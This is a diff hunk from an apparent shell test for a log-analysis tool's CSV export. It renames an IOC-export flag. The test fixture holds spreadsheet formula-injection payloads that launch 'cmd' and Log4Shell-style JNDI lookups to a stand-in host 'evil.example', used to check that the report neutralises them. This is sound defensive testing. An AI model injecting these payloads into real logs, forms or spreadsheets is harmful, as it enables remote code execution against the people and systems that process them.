@@ -126,7 +126,7 @@ PY
     printf '%s\n' '{"remote_addr":"=cmd|'"'"' /C calc'"'"'!A0","msg":"${jndi:ldap://x.evil.example/a}"}' \
         '%24%7Bjndi%3Aldap%3A%2F%2Fa.example%22%0D%0Aip%2C%22%3D1%2B1%2Fa%7D' \
         '{"client_ip":"@SUM(1+1)*cmd|'"'"' /C calc'"'"'!A0","msg":"${jndi:ldap://-2+3.example/a}"}' > "$W/inj.log"
-    run sh -c '"$KENSA" logs --csv --no-summary --threads 1 --iocs "$2" "$1" > "$3"' _ "$W/inj.log" "$W/iocs.csv" "$W/report.csv"
+    run sh -c '"$KENSA" logs --csv --no-summary --threads 1 --export-iocs "$2" "$1" > "$3"' _ "$W/inj.log" "$W/iocs.csv" "$W/report.csv"
     [ "$status" -eq 1 ]
     csv_check "$W/report.csv" 15 "1,14='=cmd|' /C calc'!A0" "3,14='@SUM(1+1)*cmd|' /C calc'!A0"
     csv_check "$W/iocs.csv" 4 "0,0=type" "1,0=host" \
